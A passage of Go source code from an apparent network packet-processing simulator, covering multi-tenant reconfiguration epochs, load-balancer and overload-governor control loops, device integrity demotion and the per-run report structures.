				s.tailMarkBytes[i] = p.TxM.Counter.WireBytes
			}
			s.tailMarkTime = s.eng.Now()
		})
	}

	// Workload (generator) changes: swap the traffic mix, preserving the
	// offered wire rate under the new mean frame size. Config validation
	// restricts these to single-tenant runs, so tenant 0 owns all queues.
	for _, gc := range s.cfg.GeneratorChanges {
		gc := gc
		if gc.At > s.stopTime || gc.Generator == nil {
			continue
		}
		s.eng.At(gc.At, func() {
			s.curGens[0] = gc.Generator
			for _, p := range s.ports {
				for _, q := range p.Rx {
					q.SetGenerator(gc.Generator)
				}
			}
			s.applyRate()
		})
	}

	// Offered-load changes.
	for _, rc := range s.cfg.RateChanges {
		rc := rc
		if rc.At > s.stopTime {
			continue
		}
		s.eng.At(rc.At, func() {
			s.curBps = rc.BpsPerPort
			s.applyRate()
		})
	}

	// Scripted fault timeline. Sorted() fixes the application order for
	// same-time events (stable in plan order), and the engine's scheduling
	// sequence breaks ties against other events deterministically.
	if plan := s.cfg.FaultPlan; plan != nil {
		for _, ev := range plan.Sorted() {
			ev := ev
			s.eng.At(ev.At, func() { s.applyFault(ev) })
		}
	}

	// Scripted reconfiguration timeline. Registered after the fault plan so
	// a fault and a reconfig epoch landing on the same tick apply
	// fault-first (engine same-tick order is registration order); reconfig
	// events themselves serialize in plan order through the epoch pump. A
	// nil or empty plan schedules nothing: the event timeline — and every
	// golden digest — is byte-identical to an unconfigured run.
	if plan := s.cfg.Reconfig; plan != nil && len(plan.Events) > 0 {
		for _, ev := range plan.Sorted() {
			if ev.At > s.stopTime {
				continue
			}
			s.rcEvents = append(s.rcEvents, ev)
		}
		if len(s.rcEvents) > 0 {
			s.rcPollFn = s.pollEpochDrain
			s.eng.At(s.rcEvents[0].At, s.pumpReconfig)
		}
	}

	// ALB control loops: observe each tenant's socket throughput, update
	// that tenant's shared W. Socket-major, tenant-minor registration keeps
	// the single-tenant event timeline identical to the pre-tenancy code.
	for socket := range s.controllers {
		for tenant, ctl := range s.controllers[socket] {
			if ctl == nil {
				continue
			}
			s.startALBLoops(socket, tenant, ctl)
		}
	}

	// Overload governor loops: once per window per (socket, tenant), fold a
	// saturation observation and apply the resulting degradation level.
	// Armed only when overload control is configured, so ordinary runs keep
	// their exact event timeline (and their golden trace digests).
	if s.cfg.Overload != nil {
		for socket := range s.governors {
			for tenant := range s.governors[socket] {
				s.startGovernorLoop(socket, tenant)
			}
		}
	}

	// Drain watchdog: after arrivals stop, the run should drain within the
	// grace window. A worker that can never retire (a hung device with the
	// rescue timeout disabled, say) would otherwise idle-poll forever and
	// Run would never return. Armed only when a checker is attached or a
	// grace is set explicitly, so untracked runs keep their exact event
	// timeline (and their golden trace digests).
	if grace := s.cfg.DrainGrace; grace > 0 {
		s.eng.At(s.stopTime+grace, func() {
			stuck := 0
			for _, w := range s.workers {
				if !w.stopped {
					stuck++
				}
			}
			if stuck == 0 {
				return
			}
			s.cfg.Checker.StuckDrain(s.eng.Now(), stuck)
			s.eng.Stop()
		})
	}

	s.eng.Run()

	return s.report(), nil
}

// startALBLoops registers one (socket, tenant) controller's observe and
// update loops. Used at Run start for the initial tenant set and at admit
// commit for the new tenant; both loops stop rescheduling once the tenant is
// evicted (tenants present at construction are active for the whole run, so
// plan-free timelines are untouched).
func (s *System) startALBLoops(socket, tenant int, ctl *lb.Controller) {
	var lastPkts uint64
	var lastT simtime.Time
	var observe func()
	observe = func() {
		if !s.tstate[tenant].active {
			return
		}
		now := s.eng.Now()
		pkts := s.tenantTxPackets(socket, tenant)
		if now > lastT {
			ctl.Observe(float64(pkts-lastPkts) / (now - lastT).Seconds())
		}
		lastPkts, lastT = pkts, now
		if now < s.stopTime {
			s.eng.After(s.cfg.ALBObserve, observe)
		}
	}
	s.eng.After(s.cfg.ALBObserve, observe)

	var lastFails uint64
	var update func()
	update = func() {
		if !s.tstate[tenant].active {
			return
		}
		// Completion failures since the last step steer the controller:
		// a failing device forces W toward the CPU regardless of the
		// throughput signal.
		fails := s.tenantTaskFailures(socket, tenant)
		ctl.NoteTaskFailures(int(fails - lastFails))
		lastFails = fails
		if ctl.Bound > 0 {
			ctl.UpdateWithLatency(s.tenantRecentP99(socket, tenant))
		} else {
			ctl.Update()
		}
		if s.eng.Now() < s.stopTime {
			s.eng.After(s.cfg.ALBUpdate, update)
		}
	}
	s.eng.After(s.cfg.ALBUpdate, update)
}

// startGovernorLoop registers one (socket, tenant) overload-governor tick
// loop (see startALBLoops for the lifecycle gating).
func (s *System) startGovernorLoop(socket, tenant int) {
	oc := s.cfg.Overload
	var prevDrops, prevShed uint64
	var tick func()
	tick = func() {
		if !s.tstate[tenant].active {
			return
		}
		s.governorTick(socket, tenant, &prevDrops, &prevShed)
		if s.eng.Now() < s.stopTime {
			s.eng.After(oc.GovernorWindow, tick)
		}
	}
	s.eng.After(oc.GovernorWindow, tick)
}

// reconfigDrainPoll is the cadence at which an in-flight epoch re-evaluates
// its drain predicate. Polling exists only while a plan event is mid-epoch,
// so plan-free runs schedule no polls at all.
const reconfigDrainPoll = 10 * simtime.Microsecond

// pumpReconfig begins the next plan event's epoch if none is in flight.
// Epochs serialize: an event whose time arrives mid-epoch waits for the
// commit, which re-invokes the pump (plan order is preserved because
// rcEvents is sorted with stable ties).
func (s *System) pumpReconfig() {
	if s.rcActive || s.rcNext >= len(s.rcEvents) {
		return
	}
	ev := s.rcEvents[s.rcNext]
	s.rcNext++
	s.beginEpoch(ev)
}

// beginEpoch opens one reconfiguration epoch: quiesce the affected lanes or
// device (stop new arrivals / submissions, leave in-flight work running),
// emit the begin event, and start evaluating the drain predicate.
func (s *System) beginEpoch(ev reconfig.Event) {
	now := s.eng.Now()
	s.rcActive = true
	s.rcEpoch++
	s.rcBegin = now
	s.rcEv = ev
	s.rcRescued, s.rcForced, s.rcOrphaned = 0, false, false

	tenant := trace.NoTenant
	var target, payload int64
	switch ev.Kind {
	case reconfig.TenantAdmit:
		// The tenant's slot index is assigned at commit; it is always the
		// next slot, so the begin event can already name it.
		target = int64(len(s.tenants))
		payload = int64(math.Float64bits(ev.Share))
	case reconfig.TenantEvict:
		t := s.tenantIndex(ev.Tenant)
		tenant, target = int32(t), int64(t)
		// Quiesce: the tenant's arrivals stop now. Co-tenant splits are
		// untouched until commit re-normalizes them.
		s.shareFrac[t] = 0
		s.applyRate()
	case reconfig.ShareRetune:
		t := s.tenantIndex(ev.Tenant)
		tenant, target = int32(t), int64(t)
		payload = int64(math.Float64bits(ev.Share))
	case reconfig.DeviceUnplug:
		target = int64(ev.Device)
		// Quiesce: new submissions re-route from the begin instant; queued
		// tasks keep draining on the device.
		s.devPlugged[ev.Device] = false
	case reconfig.DevicePlug:
		target = int64(ev.Device)
	case reconfig.QueueResize:
		target = int64(ev.Port)
		payload = int64(ev.Capacity)
	}
	if tr := s.cfg.Tracer; tr != nil {
		tr.EmitT(now, trace.KindReconfigBegin, -1, tenant, ev.Kind.String(),
			int64(s.rcEpoch), int64(ev.Kind), target, payload)
	}
	s.pollEpochDrain()
}

// pollEpochDrain drives the drain phase: commit as soon as the predicate
// holds; at the DrainGrace deadline force-rescue the remaining work through
// the CPU-fallback path; at twice the grace declare the lane orphaned
// (invariant violation) and commit anyway so the run can finish and report.
func (s *System) pollEpochDrain() {
	if !s.rcActive {
		return
	}
	now := s.eng.Now()
	if s.epochDrained(now) {
		s.commitEpoch()
		return
	}
	if grace := s.cfg.DrainGrace; grace > 0 {
		if !s.rcForced && now >= s.rcBegin+grace {
			s.rcForced = true
			s.rcRescued += s.forceRescue()
		}
		if now >= s.rcBegin+2*grace {
			s.rcOrphaned = true
			s.cfg.Checker.OrphanLane(now, s.rcEpoch, fmt.Sprintf(
				"epoch %d (%s) still undrained %v past begin (grace %v); committing with work stranded",
				s.rcEpoch, s.rcEv.Kind, now-s.rcBegin, grace))
			s.commitEpoch()
			return
		}
	}
	s.eng.After(reconfigDrainPoll, s.rcPollFn)
}

// epochDrained evaluates the current epoch's drain predicate. Admit, retune,
// plug and resize epochs have nothing in flight to wait for and drain
// instantly.
func (s *System) epochDrained(now simtime.Time) bool {
	switch s.rcEv.Kind {
	case reconfig.TenantEvict:
		t := s.tenantIndex(s.rcEv.Tenant)
		for _, w := range s.workers {
			if !w.laneDrained(t, now) {
				return false
			}
		}
		return true
	case reconfig.DeviceUnplug:
		return s.devices[s.rcEv.Device].Queued() == 0
	default:
		return true
	}
}

// forceRescue evacuates the epoch's remaining in-flight work at the grace
// deadline: evict epochs route every outstanding task and pending aggregate
// of the tenant's lanes through the completion-timeout path; unplug epochs
// abort the device's queue so its tasks fail back to their workers. Either
// way the work drains through the existing CPU-fallback path with its normal
// accounting — nothing is silently dropped.
func (s *System) forceRescue() int {
	rescued := 0
	switch s.rcEv.Kind {
	case reconfig.TenantEvict:
		t := s.tenantIndex(s.rcEv.Tenant)
		for _, w := range s.workers {
			rescued += w.rescueLane(w.lanes[t])
		}
	case reconfig.DeviceUnplug:
		rescued += s.devices[s.rcEv.Device].AbortAll()
	}
	return rescued
}

// commitEpoch applies the epoch's change — re-split shares and queue maps,
// re-seat controllers and governors, seal or open per-tenant digests — emits
// the drain and commit trace events, verifies the epoch-boundary
// conservation identity, and resumes the datapath (including the next
// deferred plan event, if any).
func (s *System) commitEpoch() {
	now := s.eng.Now()
	ev := s.rcEv
	tenant := trace.NoTenant
	var target int64
	reseated := 0
	sealTenant := -1
	switch ev.Kind {
	case reconfig.TenantAdmit:
		t := s.admitTenant(ev, now)
		tenant, target = int32(t), int64(t)
		reseated = len(s.workers)
	case reconfig.TenantEvict:
		t := s.tenantIndex(ev.Tenant)
		tenant, target = int32(t), int64(t)
		s.tstate[t].active = false
		s.tstate[t].evicted = true
		s.tstate[t].evictedAt = now
		for _, w := range s.workers {
			w.lanes[t].active = false
		}
		reseated = len(s.workers)
		s.recomputeShares()
		s.applyRate()
		sealTenant = t
	case reconfig.ShareRetune:
		t := s.tenantIndex(ev.Tenant)
		tenant, target = int32(t), int64(t)
		s.tenants[t].Share = ev.Share //nbalint:allow sharedstate retune commits on the serial engine; any outside write to Share builds the config before Run starts
		reseated = len(s.workers)
		s.recomputeShares()
		s.applyRate()
	case reconfig.DeviceUnplug:
		target = int64(ev.Device)
		// With the socket's last device gone its controllers collapse to
		// the CPU; the unplugged-rescue path covers aggregates already
		// annotated for offload.
		socket := s.cfg.Topology.Devices[ev.Device].Socket
		if !s.socketHasPluggedDevice(socket) {
			for t, ctl := range s.controllers[socket] {
				if ctl != nil && s.tstate[t].active {
					ctl.SetWBounds(0, 0)
					reseated++
				}
			}
		}
	case reconfig.DevicePlug:
		target = int64(ev.Device)
		s.devPlugged[ev.Device] = true
		socket := s.cfg.Topology.Devices[ev.Device].Socket
		for t, ctl := range s.controllers[socket] {
			if ctl != nil && s.tstate[t].active {
				ctl.SetWBounds(0, 1)
				reseated++
			}
		}
	case reconfig.QueueResize:
		target = int64(ev.Port)
		for pid, p := range s.ports {
			if ev.Port != -1 && ev.Port != pid {
				continue
			}
			for _, q := range p.Rx {
				q.SetCapacity(now, ev.Capacity)
				reseated++
			}
		}
	}

	var forced int64
	if s.rcForced {
		forced = 1
	}
	if tr := s.cfg.Tracer; tr != nil {
		tr.Emit(now, trace.KindReconfigDrain, -1, ev.Kind.String(),
			int64(s.rcEpoch), int64(now-s.rcBegin), int64(s.rcRescued), forced)
		tr.EmitT(now, trace.KindReconfigCommit, -1, tenant, ev.Kind.String(),
			int64(s.rcEpoch), int64(ev.Kind), target, int64(reseated))
	}
	if sealTenant >= 0 {
		s.cfg.Tracer.SealTenantDigest(sealTenant)
		if !s.rcOrphaned {
			// Epoch-boundary conservation: with the tenant's lanes and
			// queues drained, every packet its queues ever delivered is
			// already transmitted, dropped or shed — the evicted tenant's
			// mempool footprint is provably returned.
			d, tx, dr, sh, qr := s.tenantTotals(sealTenant)
			s.cfg.Checker.EpochConservation(now, s.rcEpoch, s.tenants[sealTenant].Name, d, tx, dr, sh, qr)
		}
	}
	s.rcActive = false
	if s.rcNext < len(s.rcEvents) {
		if next := s.rcEvents[s.rcNext]; next.At <= now {
			// Its time passed while this epoch drained: begin immediately,
			// preserving plan order.
			s.pumpReconfig()
		} else {
			s.eng.At(next.At, s.pumpReconfig)
		}
	}
}

// admitTenant installs a latent tenant into slot len(tenants) at admit
// commit: NodeLocal rows, tenant-major RX queues, one lane per worker, a
// controller and governor per socket, a fresh per-tenant trace digest, a
// re-split share vector and its own control loops — everything a
// construction-time tenant gets, in the same order.
func (s *System) admitTenant(ev reconfig.Event, now simtime.Time) int {
	li, ok := s.latentIdx[ev.Tenant]
	if !ok {
		panic(fmt.Sprintf("core: admit of unknown latent tenant %q", ev.Tenant))
	}
	tn := s.cfg.LatentTenants[li]
	if ev.Share > 0 {
		tn.Share = ev.Share
	}
	t := len(s.tenants)
	s.tenants = append(s.tenants, tn)
	s.tstate = append(s.tstate, tenantLifecycle{active: true, admitted: now})
	s.shareFrac = append(s.shareFrac, 0)
	s.parsed = append(s.parsed, s.latentParsed[li])
	s.curGens = append(s.curGens, tn.Generator)
	for socket := range s.nodeLocals {
		s.nodeLocals[socket] = append(s.nodeLocals[socket], element.NewNodeLocal())
	}
	// Queues before lanes: the tenant-major append puts the new tenant's
	// queue for local worker wi at index t*WorkersPerSocket+wi on every
	// port, exactly where buildLane looks.
	for _, port := range s.ports {
		for wi := 0; wi < s.cfg.WorkersPerSocket; wi++ {
			q := port.AddQueue(now, netio.QueueSpec{Tenant: int32(t), Gen: tn.Generator}, s.cfg.Topology.RxQueueCapacity)
			q.SetStop(s.stopTime)
			//nbalint:allow sharedstate admit-epoch wiring of a queue born on the serial engine; NewSystem's writes ran before Run started
			q.Tracer = s.cfg.Tracer
			//nbalint:allow sharedstate admit-epoch wiring of a queue born on the serial engine; NewSystem's writes ran before Run started
			q.Checker = s.cfg.Checker
		}
	}
	for _, w := range s.workers {
		ln, err := w.buildLane(t)
		if err != nil {
			// Latent graphs are trial-built at construction; failing here is
			// a programming bug, not a plan-authoring error.
			panic(fmt.Sprintf("core: admit %q: %v", ev.Tenant, err))
		}
		w.lanes = append(w.lanes, ln)
	}
	for socket := range s.controllers {
		var ctl *lb.Controller
		if st, ok := s.nodeLocals[socket][t].Get(lb.StateKey).(*lb.State); ok && st.AdaptiveUsers > 0 {
			ctl = lb.NewController(st)
			// The controller is born on the serial engine during an admit
			// epoch; NewSystem wires the same fields for boot-time tenants,
			// but those writes ran before Run started — never concurrently.
			ctl.Bound = s.cfg.ALBLatencyBound //nbalint:allow sharedstate admit-epoch wiring of a controller born on the serial engine
			ctl.Tracer = s.cfg.Tracer         //nbalint:allow sharedstate admit-epoch wiring of a controller born on the serial engine
			ctl.TraceNow = s.eng.Now          //nbalint:allow sharedstate admit-epoch wiring of a controller born on the serial engine
			ctl.TraceActor = int32(socket)    //nbalint:allow sharedstate admit-epoch wiring of a controller born on the serial engine
			ctl.TraceTenant = int32(t)        //nbalint:allow sharedstate admit-epoch wiring of a controller born on the serial engine
			ctl.Checker = s.cfg.Checker       //nbalint:allow sharedstate admit-epoch wiring of a controller born on the serial engine
		}
		s.controllers[socket] = append(s.controllers[socket], ctl)
	}
	if s.cfg.Overload != nil {
		for socket := range s.governors {
			s.governors[socket] = append(s.governors[socket], overload.NewGovernor(*s.cfg.Overload))
		}
	}
	s.cfg.Tracer.EnsureTenantDigests(len(s.tenants))
	s.recomputeShares()
	s.applyRate()
	for socket := range s.controllers {
		if ctl := s.controllers[socket][t]; ctl != nil {
			s.startALBLoops(socket, t, ctl)
		}
	}
	if s.cfg.Overload != nil {
		for socket := range s.governors {
			s.startGovernorLoop(socket, t)
		}
	}
	return t
}

// tenantIndex resolves a plan tenant name to its slot. Plan validation
// guarantees evict/retune targets were admitted, so a miss is a bug.
func (s *System) tenantIndex(name string) int {
	for t := range s.tenants {
		if s.tenants[t].Name == name {
			return t
		}
	}
	panic(fmt.Sprintf("core: reconfig references unknown tenant %q", name))
}

// recomputeShares re-normalizes the share split over the active tenants
// (evicted slots pin to zero) and re-seats every worker's WRR rotation.
func (s *System) recomputeShares() {
	var sum float64
	for t := range s.tenants {
		if s.tstate[t].active {
			sum += s.tenants[t].Share
		}
	}
	for t := range s.tenants {
		if s.tstate[t].active && sum > 0 {
			s.shareFrac[t] = s.tenants[t].Share / sum
		} else {
			s.shareFrac[t] = 0
		}
	}
	for _, w := range s.workers {
		w.wrr.SetShares(s.shareFrac)
	}
}

// socketHasPluggedDevice reports whether any of the socket's devices is in
// service.
func (s *System) socketHasPluggedDevice(socket int) bool {
	for _, di := range s.cfg.Topology.DevicesOnSocket(socket) {
		if s.devPlugged[di] {
			return true
		}
	}
	return false
}

// tenantTotals sums one tenant's sides of the conservation identity across
// all its queues and lanes (cumulative over the run so far).
func (s *System) tenantTotals(t int) (delivered, tx, drops, shed, quarantined uint64) {
	for _, p := range s.ports {
		for _, q := range p.Rx {
			if int(q.Tenant) != t {
				continue
			}
			d, _, _ := q.Stats()
			delivered += d
		}
	}
	for _, w := range s.workers {
		ln := w.lanes[t]
		tx += ln.txPackets
		drops += ln.graphDrops()
		shed += ln.shedPkts
		quarantined += ln.quarantinedPkts
	}
	return delivered, tx, drops, shed, quarantined
}

// governorTick runs one overload-governor window for a (socket, tenant):
// observe saturation (bounded device queue full or backlogged = device-side,
// shared across tenants; that tenant's RX drops or sheds still accruing =
// CPU-side) and apply the resulting degradation level to the tenant alone.
func (s *System) governorTick(socket, tenant int, prevDrops, prevShed *uint64) {
	oc := s.cfg.Overload
	g := s.governors[socket][tenant]
	now := s.eng.Now()

	devSat := false
	cm := s.cfg.CostModel
	for _, di := range s.cfg.Topology.DevicesOnSocket(socket) {
		if !s.devPlugged[di] {
			continue // hot-unplugged: no longer a saturation signal
		}
		d := s.devices[di]
		if d.Saturated() || (cm.MaxDeviceBacklog > 0 && d.Backlog() > cm.MaxDeviceBacklog) {
			devSat = true
			break
		}
	}
	drops := s.tenantRxDropped(socket, tenant)
	shed := s.tenantShed(socket, tenant)
	cpuSat := drops > *prevDrops || shed > *prevShed
	*prevDrops, *prevShed = drops, shed

	old := g.Level()
	lvl, changed := g.Observe(devSat || cpuSat)
	if changed {
		// Trim: shrink the offload aggregation age so the tenant's packets
		// stop maturing behind a congested device; restore it on recovery
		// below Trim.
		scale := 1.0
		if lvl >= overload.LevelTrim {
			scale = oc.TrimAgeScale
		}
		for _, w := range s.workers {
			if w.socket == socket {
				w.lanes[tenant].agg.AgeScale = scale
			}
		}
		// Leaving Bias on the way up releases the ALB weight bounds.
		if lvl < overload.LevelBias && old >= overload.LevelBias {
			if ctl := s.controllers[socket][tenant]; ctl != nil {
				ctl.SetWBounds(0, 1)
				s.emitBias(socket, tenant, 0, 1, devSat, cpuSat)
			}
		}
		if tr := s.cfg.Tracer; tr != nil {
			tr.EmitT(now, trace.KindOverloadLevel, int32(socket), int32(tenant), lvl.String(),
				int64(lvl), int64(old), b2i(devSat), b2i(cpuSat))
		}
	}
	// Bias ratchet: each saturated window at LevelBias and above with an
	// unambiguous direction moves the weight bound one step toward the
	// uncongested processor (device congested → ceiling down toward the CPU,
	// CPU congested → floor up toward the device).
	if lvl >= overload.LevelBias && devSat != cpuSat {
		if ctl := s.controllers[socket][tenant]; ctl != nil {
			lo, hi := ctl.WBounds()
			if devSat {
				hi = math.Max(lo, hi-oc.BiasStep)
			} else {
				lo = math.Min(hi, lo+oc.BiasStep)
			}
			ctl.SetWBounds(lo, hi)
			s.emitBias(socket, tenant, lo, hi, devSat, cpuSat)
		}
	}
}

// noteIntegrity folds one sentinel verification outcome into the per-device
// corruption tracker and applies whatever escalation it triggers. Called from
// the worker's completion path, on the serial engine.
func (s *System) noteIntegrity(w *worker, it *inflightTask, match bool) {
	now := w.now()
	dev := it.dev
	devIdx := int(dev.TraceActor)
	mismatch := !match
	if tr := s.cfg.Tracer; tr != nil {
		tr.EmitT(now, trace.KindIntegrityCheck, int32(w.id), it.ln.tenant, dev.Name,
			int64(it.task.ID), int64(it.pending.NPkts), b2i(mismatch), int64(devIdx))
	}
	action := s.integrityTracker.Observe(devIdx, mismatch)
	if mismatch {
		if !s.mismatchSeen {
			s.mismatchSeen = true
			s.firstMismatchAt = now
		}
		if tr := s.cfg.Tracer; tr != nil {
			tr.EmitT(now, trace.KindIntegrityMismatch, int32(w.id), it.ln.tenant, dev.Name,
				int64(it.task.ID), int64(it.pending.NPkts),
				int64(math.Float64bits(s.integrityTracker.Score(devIdx))), int64(devIdx))
		}
	}
	switch action {
	case integrity.ActionDemote:
		s.demoteDevice(devIdx, now)
	case integrity.ActionFailStop:
		s.failStopDevice(devIdx, now)
	}
}

// demoteDevice ratchets the ALB weight ceiling on the suspect device's socket
// down by DemoteStep for every active tenant, steering traffic toward the CPU
// without taking the device out of service (the same mechanism as the
// overload governor's bias ratchet, driven by corruption instead of
// saturation).
func (s *System) demoteDevice(devIdx int, now simtime.Time) {
	socket := s.cfg.Topology.Devices[devIdx].Socket
	for t, ctl := range s.controllers[socket] {
		if ctl == nil || !s.tstate[t].active {
			continue
		}
		lo, hi := ctl.WBounds()
		hi = math.Max(lo, hi-s.cfg.Integrity.DemoteStep)
		ctl.SetWBounds(lo, hi)
	}
	s.emitIntegrityEscalation(now, devIdx, 0)
}

// failStopDevice takes a device whose corruption score crossed FailScore out
// of service (queued tasks fail back through the workers' CPU rescue path)
// and schedules the recovery probe that re-admits it after ProbeAfter.
func (s *System) failStopDevice(devIdx int, now simtime.Time) {
	s.devices[devIdx].Fail()
	s.emitIntegrityEscalation(now, devIdx, 1)
	s.eng.After(s.cfg.Integrity.ProbeAfter, func() { s.probeDevice(devIdx) })
}

// probeDevice re-admits a fail-stopped device with a clean score and released
// weight bounds, so a transient corrupter regains service; a device that
// still corrupts is re-demoted by the sentinel on its next sampled mismatch.
func (s *System) probeDevice(devIdx int) {
	if !s.integrityTracker.FailStopped(devIdx) {
		return // already re-admitted (or never integrity-failed)
	}
	s.integrityTracker.Readmit(devIdx)
	s.devices[devIdx].Recover()
	socket := s.cfg.Topology.Devices[devIdx].Socket
	for t, ctl := range s.controllers[socket] {
		if ctl == nil || !s.tstate[t].active {
			continue
		}
		ctl.SetWBounds(0, 1)
	}
	s.emitIntegrityEscalation(s.eng.Now(), devIdx, 2)
}

// emitIntegrityEscalation emits one integrity.demote trace record (phase 0 =
// ALB demotion, 1 = fail-stop, 2 = probe re-admit).
func (s *System) emitIntegrityEscalation(now simtime.Time, devIdx int, phase int64) {
	tr := s.cfg.Tracer
	if tr == nil {
		return
	}
	socket := s.cfg.Topology.Devices[devIdx].Socket
	tr.Emit(now, trace.KindIntegrityDemote, int32(socket), s.devices[devIdx].Name,
		phase, int64(math.Float64bits(s.integrityTracker.Score(devIdx))),
		int64(s.integrityTracker.Consecutive(devIdx)), int64(devIdx))
}

func (s *System) emitBias(socket, tenant int, lo, hi float64, devSat, cpuSat bool) {
	if tr := s.cfg.Tracer; tr != nil {
		tr.EmitT(s.eng.Now(), trace.KindOverloadBias, int32(socket), int32(tenant), "bias",
			int64(math.Float64bits(lo)), int64(math.Float64bits(hi)),
			b2i(devSat), b2i(cpuSat))
	}
}

func b2i(b bool) int64 {
	if b {
		return 1
	}
	return 0
}

// tenantRxDropped sums cumulative RX overflow + alloc-failure drops over one
// tenant's queues on the socket's ports.
func (s *System) tenantRxDropped(socket, tenant int) uint64 {
	var total uint64
	for _, pid := range s.cfg.Topology.PortsOnSocket(socket) {
		for _, q := range s.ports[pid].Rx {
			if int(q.Tenant) != tenant {
				continue
			}
			_, dr, af := q.Stats()
			total += dr + af
		}
	}
	return total
}

// tenantShed sums cumulative overload-control activity (shed packets plus
// admission rejections) over one tenant's lanes on a socket.
func (s *System) tenantShed(socket, tenant int) uint64 {
	var total uint64
	for _, w := range s.workers {
		if w.socket == socket {
			ln := w.lanes[tenant]
			total += ln.shedPkts + ln.rejectedTasks
		}
	}
	return total
}

// tenantRecentP99 merges and resets one tenant's per-lane latency windows on
// a socket, returning the p99 observed since the last ALB update.
func (s *System) tenantRecentP99(socket, tenant int) simtime.Time {
	var merged stats.Hist
	for _, w := range s.workers {
		if w.socket == socket {
			ln := w.lanes[tenant]
			merged.Merge(&ln.recentLat)
			ln.recentLat.Reset()
		}
	}
	return merged.Percentile(99)
}

func (s *System) tenantTxPackets(socket, tenant int) uint64 {
	var total uint64
	for _, w := range s.workers {
		if w.socket == socket {
			total += w.lanes[tenant].txPackets
		}
	}
	return total
}

// tenantTaskFailures counts failed plus timed-out offload tasks across one
// tenant's lanes on a socket (cumulative).
func (s *System) tenantTaskFailures(socket, tenant int) uint64 {
	var total uint64
	for _, w := range s.workers {
		if w.socket == socket {
			ln := w.lanes[tenant]
			total += ln.failedTasks + ln.timedOutTasks
		}
	}
	return total
}

// TenantReport is one tenant's slice of a run: the per-tenant sides of the
// conservation identity, its latency distribution, its replay-stable trace
// sub-digest and its SLO verdict.
type TenantReport struct {
	// Name is the tenant's configured name ("" for the implicit tenant of
	// a single-app run).
	Name string
	// RxDelivered / RxDropped / AllocFailed aggregate the tenant's queues
	// over the whole run.
	RxDelivered uint64
	RxDropped   uint64
	AllocFailed uint64
	// TxPackets + GraphDrops + ShedPackets + QuarantinedPackets must equal
	// RxDelivered for a drained run (the per-tenant conservation identity).
	TxPackets          uint64
	GraphDrops         uint64
	ShedPackets        uint64
	QuarantinedPackets uint64
	// TxGbps is the tenant's transmitted wire throughput over the
	// measurement window.
	TxGbps float64
	// OffloadedPackets / FallbackPackets / FailedTasks / TimedOutTasks /
	// RejectedTasks are the tenant's offload-path counters.
	OffloadedPackets uint64
	FallbackPackets  uint64
	FailedTasks      uint64
	TimedOutTasks    uint64
	RejectedTasks    uint64
	// Latency is the tenant's end-to-end latency distribution over the
	// measurement window.
	Latency stats.Hist
	// FinalW is the tenant's socket-0 offloading fraction at the end.
	FinalW float64
	// SLOP999 echoes the configured objective; SLOMet reports whether the
	// measured p99.9 met it (true when no objective was set).
	SLOP999 simtime.Time
	SLOMet  bool
	// Digest is the tenant's trace sub-digest ("" when the run's tracer
	// was nil or tenancy was implicit). For an evicted tenant this is the
	// digest sealed at evict commit, not a zero-filled live value.
	Digest string
	// Admitted is the virtual time the tenant entered service (0 for
	// tenants present at construction).
	Admitted simtime.Time
	// Evicted marks a sealed section: the tenant was drained and removed at
	// EvictedAt, its counters are frozen at that point and Digest holds the
	// sealed sub-digest.
	Evicted   bool
	EvictedAt simtime.Time
}

// Report is the outcome of a run.
type Report struct {
	// Measured is the measurement window length.
	Measured simtime.Time
	// TxGbps is the aggregate transmitted wire throughput.
	TxGbps float64
	// TxPPS is the aggregate transmitted packet rate.
	TxPPS float64
	// PerPortGbps is the per-port TX breakdown.
	PerPortGbps []float64
	// RxDelivered / RxDropped / AllocFailed aggregate NIC statistics over
	// the whole run (including warmup).
	RxDelivered uint64
	RxDropped   uint64
	AllocFailed uint64
	// Latency is the end-to-end latency distribution of packets
	// transmitted during the measurement window.
	Latency stats.Hist
	// FinalW is the offloading fraction at the end (adaptive runs, first
	// tenant).
	FinalW float64
	// LBTrace is socket 0's first-tenant controller trace.
	LBTrace []lb.TracePoint
	// DeviceStats snapshots each accelerator.
	DeviceStats []gpu.Stats
	// GraphDrops counts packets dropped inside pipelines (all workers).
	GraphDrops uint64
	// TxPackets counts packets transmitted over the whole run (including
	// warmup), the TX side of the conservation identity
	// RxDelivered == TxPackets + GraphDrops + ShedPackets.
	TxPackets uint64
	// OffloadedPackets counts packets processed via accelerators.
	OffloadedPackets uint64
	// FallbackPackets counts packets rescued onto the CPU after their
	// offload task failed or timed out (subset of OffloadedPackets).
	FallbackPackets uint64
	// FailedTasks / TimedOutTasks count the worker-observed offload-task
	// failures behind those rescues.
	FailedTasks   uint64
	TimedOutTasks uint64
	// ShedPackets counts packets dropped by overload control (CoDel sojourn
	// shedding plus admission-rejected aggregates at LevelShed). Part of the
	// conservation identity RxDelivered == TxPackets + GraphDrops + Shed +
	// Quarantined.
	ShedPackets uint64
	// QuarantinedPackets counts packets discarded because sentinel
	// re-execution disagreed with the device's results (never transmitted,
	// never resumed). Part of the conservation identity; zero when
	// Config.Integrity is nil.
	QuarantinedPackets uint64
	// IntegrityChecks / CorruptionDetected count sentinel re-executions and
	// the mismatches among them across all workers.
	IntegrityChecks    uint64
	CorruptionDetected uint64
	// DeviceCorruptionScores is each device's final EWMA corruption score
	// (nil when Config.Integrity is nil).
	DeviceCorruptionScores []float64
	// FirstMismatchAt is the virtual time of the first sentinel mismatch
	// (detection latency relative to the corruption window's start); zero
	// when CorruptionDetected is zero.
	FirstMismatchAt simtime.Time
	// RejectedTasks counts device submissions refused by admission control
	// (the bounded task queue was full), whether rescued or shed.
	RejectedTasks uint64
	// RxBacklogHWM is the deepest RX-ring backlog observed on any queue.
	RxBacklogHWM uint64
	// WorkerInflightHWM is the most outstanding device tasks any worker had.
	WorkerInflightHWM int
	// DeviceQueueHWM is the deepest task-queue occupancy observed on any
	// device — with overload control armed it never exceeds the configured
	// DeviceQueueDepth (the queue.bound invariant).
	DeviceQueueHWM int
	// OverloadPeak / OverloadFinal are the most severe and final governor
	// levels across sockets and tenants (always normal when overload
	// control is off).
	OverloadPeak  overload.Level
	OverloadFinal overload.Level
	// TailGbps is the throughput over the last quarter of the measurement
	// window — the converged state of adaptive runs.
	TailGbps float64
	// Capture holds the first Config.CaptureTx transmitted frames.
	Capture []netio.CapturedPacket
	// NodeStats aggregates per-element-instance counters across all worker
	// replicas, keyed by the instance name from the configuration; in
	// multi-tenant runs the key is "tenantName/instanceName".
	NodeStats map[string]NodeStat
	// PoolOutstanding is the number of packets still outstanding at the
	// end — must be zero after a drained run (conservation check).
	PoolOutstanding int
